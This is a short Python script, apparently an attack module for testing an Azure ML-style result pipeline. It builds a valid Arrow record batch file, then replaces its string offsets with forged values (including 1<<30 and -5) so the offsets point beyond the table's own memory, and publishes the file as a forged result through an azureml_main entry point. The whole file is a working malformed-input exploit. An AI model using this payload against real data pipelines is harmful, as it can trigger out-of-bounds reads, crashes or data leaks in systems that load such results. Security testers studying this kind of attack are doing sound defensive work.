"""Swaps a result for a table whose offsets lead beyond its own memory."""

import pyarrow
from attack import publish_forged


def lying(path):
    column = pyarrow.array(["abcd", "efgh", "ijkl"])
    batch = pyarrow.RecordBatch.from_arrays([column], ["x"])
    make = getattr(pyarrow, "RecordBatchFileWriter", None) or pyarrow.ipc.RecordBatchFileWriter
    writer = make(path, batch.schema)
    writer.write_batch(batch)
    writer.close()
    with open(path, "rb") as stream:
        content = stream.read()
    offsets = b"".join(number.to_bytes(4, "little") for number in (0, 4, 8, 12))
    lies = b"".join(number.to_bytes(4, "little", signed=True) for number in (0, 1 << 30, -5, 12))
    assert content.count(offsets) == 1
    with open(path, "wb") as stream:
        stream.write(content.replace(offsets, lies))


def azureml_main(dataframe1=None, dataframe2=None):
    publish_forged(result_dataset=lying, result_dataset2=lying)
